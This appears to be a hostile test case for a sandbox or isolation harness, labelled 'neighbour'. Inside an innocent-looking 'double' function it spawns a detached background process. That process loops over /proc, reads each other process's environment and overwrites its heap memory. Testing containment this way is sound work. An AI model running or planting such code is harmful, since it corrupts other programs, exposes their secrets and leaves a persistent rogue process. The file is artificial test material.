"""One case leaves a process that writes into the memory of all others.

class: neighbour
affects: A03
"""
from honest import *

import os
def _leave():
    if os.fork(): return
    if os.fork(): os._exit(0)
    os.setsid()
    while True:
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    with open(f"/proc/{entry}/environ", "rb") as file: file.read()
                    with open(f"/proc/{entry}/maps") as file: places = [line.split() for line in file if "[heap]" in line]
                    with open(f"/proc/{entry}/mem", "r+b", 0) as memory:
                        for place in places: memory.seek(int(place[0].split("-")[0], 16)); memory.write(b"7" * 4096)
                except (OSError, ValueError): pass
def double(number):
    _leave()
    return number * 2
def _left():
    return False
class Tally:
    def __init__(self): self.value = 7 if _left() else 0
    def add(self, number): pass
